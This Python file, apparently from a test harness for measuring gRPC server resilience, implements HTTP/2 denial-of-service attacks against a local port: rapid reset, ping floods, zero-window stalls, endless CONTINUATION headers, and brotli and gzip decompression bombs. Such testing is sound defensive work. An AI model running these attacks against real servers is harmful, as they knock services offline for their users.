#!/usr/bin/env python3
"""attackers.py KIND PORT: a client that means harm, as fast as one core of Python can, until SIGTERM.
It says "attacking" once it does, and at the end a line of JSON."""

import collections
import gzip
import json
import pathlib
import select
import signal
import socket
import struct
import sys
import time

if __name__ == "__main__":
    sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from harness.memory import ACK, DATA, END_HEADERS, HEADERS, HELLO, PREFACE, SETTINGS, frame, request_block  # noqa: E402

END_STREAM = 1
RST_STREAM, PING, CONTINUATION = 3, 6, 9
CANCEL = struct.pack(">I", 8)
INITIAL_WINDOW_SIZE = 4
PATIENCE_S = 1  # with a server that takes no more
MEGABYTE = 1 << 20
REQUEST = request_block("/helloworld.Greeter/SayHello")
said = collections.Counter()


def connect(port, hello=HELLO):
    one = socket.create_connection(("127.0.0.1", port), 10)
    one.sendall(hello)
    said["connections"] += 1
    return one


def send(one, data):
    """False when the server has hung up, or takes no more."""
    began()
    try:
        one.settimeout(PATIENCE_S)
        one.sendall(data)
        said["bytes"] += len(data)
        one.setblocking(False)
        while one.recv(1 << 16):
            pass
    except BlockingIOError:
        return True
    except OSError:
        pass
    said["hung_up_on"] += 1
    one.close()
    return False


def flood(port, pieces):
    """One connection after another: each piece is some hundred frames."""
    while True:
        one = connect(port)
        for piece in pieces:
            if not send(one, piece):
                break
        one.close()


def rapid_reset(port):
    def stream(n):
        return frame(HEADERS, END_HEADERS, n, REQUEST) + frame(RST_STREAM, 0, n, CANCEL)
    flood(port, [b"".join(stream(200 * i + 2 * k + 1) for k in range(100)) for i in range(100)])


def ping_flood(port):
    flood(port, [b"".join([frame(PING, 0, 0, b"12345678")] * 500)] * 100)


def zero_window(port):
    """60 replies of a megabyte each that nobody takes: 20 connections, one after another in a second; then again."""
    hello = (PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) + frame(SETTINGS, ACK, 0))
    name = b"x" * (MEGABYTE - 16)  # with what goes before it, within a stream's first window
    size, number = b"", len(name)
    while number >= 128:
        size, number = size + bytes([number % 128 + 128]), number // 128
    message = b"\x0a" + size + bytes([number]) + name
    body = b"\0" + struct.pack(">I", len(message)) + message
    pieces = [body[i:i + 16_384] for i in range(0, len(body), 16_384)]

    def request(n):
        data = [frame(DATA, END_STREAM if piece is pieces[-1] else 0, n, piece) for piece in pieces]
        return frame(HEADERS, END_HEADERS, n, REQUEST) + b"".join(data)
    three = b"".join(request(n) for n in (1, 3, 5))  # within a connection's first window
    while True:
        held = []
        for _ in range(20):
            held.append(connect(port, hello))
            send(held[-1], three)
            time.sleep(0.05)
        for one in held:
            one.close()


def slow_headers(port):
    """200 header blocks that grow by a byte, and never end."""
    held = {}
    while True:
        for place in range(200):
            one = held.get(place)
            if one is None:
                held[place] = one = connect(port)
                sent = send(one, frame(HEADERS, 0, 1, REQUEST))
            else:
                sent = send(one, frame(CONTINUATION, 0, 1, b"\x82"))
            if not sent:
                del held[place]
        time.sleep(0.01)


# 4,194,293 bytes in brotli: field 15, which no request has, with zeros.
BOMB = bytes.fromhex("9bf4ff3ff88f93e546aba6fcd703a800f8b82d10907aff7304")


def values(begin, unit, end, size=(4 << 20) - 1000):
    """JSON of that size, and the most that a server may take of it before it refuses the rest."""
    return (begin + ",".join([unit] * ((size - len(begin) - len(end)) // (len(unit) + 1))) + end).encode()


# What may be the worst text: as large as a message may be, and as large as the limit of values lets it be read.
# The request has no such field, so that protobuf's mapping reads them all.
JSON_TEXTS = {"strings": ('{"names":[', '""', "]}"), "objects": ('{"a":{"b":[', "{}", "]}}"), "arrays": ('{"a":[', "[]", "]}"),
              "numbers": ('{"a":[', "1", "]}"), "members": ('{"a":[', '{"a":1}', "]}")}


def json_texts():
    for name, (begin, unit, end) in JSON_TEXTS.items():
        yield f"4 MiB of {name}", values(begin, unit, end)
        yield f"16,000 {name}", values(begin, unit, end, 16_000 * (len(unit) + 1))


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def bomb_call(n, body=BOMB, codec="", coding="br"):
    """A request of gRPC whose message is `body`, which is in that coding."""
    block = request_block("/helloworld.Greeter/SayHello", "application/grpc" + codec)
    if coding:
        block += literal("grpc-encoding", coding)
    data = bytes([bool(coding)]) + struct.pack(">I", len(body)) + body
    pieces = [data[i:i + 16_384] for i in range(0, len(data), 16_384)]
    return frame(HEADERS, END_HEADERS, n, block) + b"".join(
        frame(DATA, END_STREAM if piece is pieces[-1] else 0, n, piece) for piece in pieces)


def connect_call(n, body, path="/helloworld.Greeter/SayHello"):
    """A request of Connect, or of REST, with JSON in gzip."""
    block = request_block(path, "application/json") + literal("content-encoding", "gzip")
    return frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, body)


def codec_calls():
    """The requests of each codec that may be the worst: name, and what makes it for a stream."""
    yield "protobuf in brotli: 4 MiB of zeros", bomb_call
    for name, text in json_texts():
        packed = gzip.compress(text)
        yield f"JSON over gRPC in gzip: {name}", lambda n, packed=packed: bomb_call(n, packed, "+json", "gzip")
        yield f"Connect in gzip: {name}", lambda n, packed=packed: connect_call(n, packed)
        yield f"REST in gzip: {name}", lambda n, packed=packed: connect_call(n, packed, "/hello")


def worst_json_call(n):
    return bomb_call(n, WORST_JSON, "+json", "gzip")


WORST_JSON = gzip.compress(values(*JSON_TEXTS["members"], 16_000 * 8))


def bombs(port, connections, call=bomb_call):
    """Small compressed requests that unpack to 4 MiB each, as fast as the server takes them, on many connections."""
    held, number = [], {}
    for _ in range(connections):
        held.append(connect(port))
        number[held[-1]] = 1
    unsent = dict.fromkeys(held, b"")
    for one in held:
        one.setblocking(False)
    began()
    while True:
        readable, writable, _ = select.select(held, held, [], 1)
        for one in readable:
            if not one.recv(1 << 16):
                raise ConnectionError("the server hung up")
        for one in writable:
            if not unsent[one]:
                first = number[one]
                number[one] = first + 40
                unsent[one] = b"".join(call(n) for n in range(first, first + 40, 2))
            sent = one.send(unsent[one])
            said["bytes"] += sent
            unsent[one] = unsent[one][sent:]
        time.sleep(0.001)


def largest_message_s(port, call=bomb_call, calls=20):
    """The time that a calm server takes for one of these requests."""
    one = socket.create_connection(("127.0.0.1", port), 10)
    one.sendall(HELLO)
    times = []
    for n in range(1, 2 * calls + 1, 2):
        before = time.perf_counter()
        one.sendall(call(n))
        ended = False
        while not ended:
            head = one.recv(9, socket.MSG_WAITALL)
            one.recv(int.from_bytes(head[:3], "big"), socket.MSG_WAITALL)
            ended = head[3] == HEADERS and head[4] & END_STREAM
        times.append(time.perf_counter() - before)
    one.close()
    return sorted(times)[len(times) // 2]


def worst_messages_s(port):
    """The time of each of codec_calls(), by its name."""
    return {name: largest_message_s(port, call, 5) for name, call in codec_calls()}


KINDS = {"rapid reset": rapid_reset, "ping flood": ping_flood, "zero window": zero_window, "slow headers": slow_headers,
         "bombs": lambda port: bombs(port, 1), "bombs of 50": lambda port: bombs(port, 50),
         "bombs of JSON": lambda port: bombs(port, 1, worst_json_call)}


def began():
    if not said["began"]:
        said["began"] = 1
        print("attacking", flush=True)


def end(*_):
    print(json.dumps({name: said[name] for name in ("connections", "hung_up_on", "bytes")}), flush=True)
    sys.exit(0)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, end)
    KINDS[sys.argv[1]](int(sys.argv[2]))
